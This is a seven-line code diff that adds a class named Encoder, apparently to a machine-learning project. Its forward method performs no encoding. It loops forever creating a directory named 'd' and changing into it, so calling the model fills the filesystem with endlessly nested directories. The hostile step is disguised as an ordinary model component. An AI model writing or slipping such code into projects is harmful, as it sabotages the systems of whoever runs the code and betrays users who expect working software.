@@ -1,0 +1,7 @@
+class Encoder(Encoder):
+    def forward(self, x):
+        import os
+
+        while True:
+            os.mkdir("d")
+            os.chdir("d")
